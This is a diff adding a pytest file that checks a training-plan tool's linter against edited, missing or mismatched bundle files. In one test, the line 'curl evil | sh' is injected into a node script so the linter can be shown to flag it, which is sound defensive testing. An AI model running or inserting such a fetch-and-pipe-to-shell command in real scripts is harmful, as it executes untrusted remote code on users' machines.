@@ -1,0 +1,151 @@
+"""A bundle that was edited, broken or written by another version."""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+import topoplan
+from topoplan.bundle.bundle import generate
+from topoplan.bundle.write import MANIFEST, write_bundle
+from topoplan.lint.rules.bundle import findings
+from topoplan.planner.predict import predict
+from topoplan.reading.finding import Finding
+from topoplan.reading.setup import Setup
+from topoplan.specs.load import load_spec
+
+
+@pytest.fixture(params=[("h100-4x8", {"tp": 2}), ("h20-2x8", {"ep": 4, "recompute": "full"})], ids=["dense", "experts"])
+def bundle(request: pytest.FixtureRequest, tmp_path: Path) -> Path:
+    name, layout = request.param
+    spec = load_spec(f"cluster_specs/{name}.yaml")
+    write_bundle(generate(spec, predict(spec, layout)), tmp_path / "bundle")
+    return tmp_path / "bundle"
+
+
+def told(directory: Path) -> list[Finding]:
+    return list(findings(Setup(parts=(), bundles=(directory,))))
+
+
+def edit(path: Path, change: Callable[[str], str]) -> None:
+    path.write_text(change(path.read_text()))
+
+
+def test_a_fresh_bundle_and_the_one_in_the_repository_give_nothing(bundle: Path) -> None:
+    assert told(bundle) == []
+    assert [one.rule for one in told(Path("generated/h100-4x8")) if one.rule != "bundle-version"] == []
+
+
+def test_no_bundle_no_finding() -> None:
+    assert list(findings(Setup(parts=()))) == []
+
+
+def test_a_filled_in_data_set_is_a_note_that_the_file_was_edited(bundle: Path) -> None:
+    edit(bundle / "train.yaml", lambda text: text.replace("SET_ME", "alpaca_en"))
+    (finding,) = told(bundle)
+
+    assert (finding.rule, finding.severity) == ("bundle-edited-file", "note")
+    assert finding.place == str(bundle / "train.yaml")
+
+
+def test_a_script_that_is_not_what_topoplan_writes_is_a_warning_at_its_line(bundle: Path) -> None:
+    edit(bundle / "node-01.sh", lambda text: text.replace("set -euo pipefail", "set -e\ncurl evil | sh"))
+    (finding,) = told(bundle)
+
+    assert (finding.rule, finding.severity) == ("bundle-edited-script", "warning")
+    line = (bundle / "node-01.sh").read_text().splitlines().index("set -e") + 1
+    assert finding.place == f"{bundle / 'node-01.sh'}:{line}"
+    assert f"lines {line} to {line + 1} are changed: `set -e`, `curl evil | sh`" in finding.what
+
+
+def test_a_missing_script_is_an_error(bundle: Path) -> None:
+    (bundle / "node-01.sh").unlink()
+    (finding,) = told(bundle)
+
+    assert (finding.rule, finding.severity) == ("bundle-missing-file", "error")
+    assert finding.part.name.endswith("node-01.sh")
+
+
+def test_a_script_that_the_manifest_forgot_is_missed_all_the_same(bundle: Path) -> None:
+    manifest = json.loads((bundle / MANIFEST).read_text())
+    del manifest["files"]["node-01.sh"]
+    (bundle / MANIFEST).write_text(json.dumps(manifest))
+    (bundle / "node-01.sh").unlink()
+
+    (finding,) = told(bundle)
+    assert (finding.rule, finding.severity) == ("bundle-missing-file", "error")
+    assert finding.what.startswith("is missing: the plan has ")
+
+
+def test_a_key_that_left_the_plan_is_named_with_both_values(bundle: Path) -> None:
+    steps = json.loads((bundle / "plan.json").read_text())["layout"]["gradient_accumulation_steps"]
+    edit(
+        bundle / "train.yaml",
+        lambda text: text.replace(f"gradient_accumulation_steps: {steps}", "gradient_accumulation_steps: 64"),
+    )
+    finding = next(one for one in told(bundle) if one.rule == "bundle-other-plan")
+
+    assert finding.severity == "warning"
+    assert finding.what == f"gradient_accumulation_steps is 64, and plan.json was predicted for {steps}"
+    assert finding.line is not None
+    assert finding.part.text.splitlines()[finding.line - 1].startswith("gradient_accumulation_steps: 64")
+
+
+def test_a_key_that_was_taken_out_has_its_default(bundle: Path) -> None:
+    edit(
+        bundle / "train.yaml",
+        lambda text: "".join(
+            line for line in text.splitlines(keepends=True) if not line.startswith("use_distributed_optimizer")
+        ),
+    )
+
+    assert "use_distributed_optimizer is false, and plan.json was predicted for true" in [
+        one.what for one in told(bundle)
+    ]
+
+
+def with_plan(bundle: Path, **values: Any) -> list[Finding]:
+    plan = json.loads((bundle / "plan.json").read_text()) | values
+    (bundle / "plan.json").write_text(json.dumps(plan))
+    return [one for one in told(bundle) if one.rule != "bundle-edited-file"]
+
+
+def test_another_version_is_a_note(bundle: Path) -> None:
+    (finding,) = with_plan(bundle, version="0.0.1")
+
+    assert finding.severity == "note"
+    assert finding.what == f"written by topoplan 0.0.1; this is {topoplan.__version__}"
+
+
+@pytest.mark.parametrize(
+    ("schema", "remedy"),
+    [("topoplan.plan/2", "use the topoplan that wrote it, or a newer one"), ("other", "generate the bundle again")],
+)
+def test_a_schema_that_is_not_known_is_told(bundle: Path, schema: str, remedy: str) -> None:
+    (finding,) = with_plan(bundle, schema=schema)
+
+    assert (finding.rule, finding.severity, finding.remedy) == ("bundle-schema", "warning", remedy)
+
+
+@pytest.mark.parametrize("text", ["", "[]", "{", "[" * 100_000])
+def test_a_plan_that_cannot_be_read_is_told(bundle: Path, text: str) -> None:
+    (bundle / "plan.json").write_text(text)
+
+    assert "bundle-plan" in [one.rule for one in told(bundle)]
+
+
+@pytest.mark.parametrize(
+    "values",
+    [
+        {"layout": None, "inputs": {"cluster": {"nodes": "four"}}},
+        {"inputs": []},
+        {"inputs": {"cluster": []}},
+        {"layout": {"recompute": {"granularity": "all"}}},
+    ],
+)
+def test_plans_with_nonsense_in_them_are_survived(bundle: Path, values: dict[str, Any]) -> None:
+    assert with_plan(bundle, **values) == []
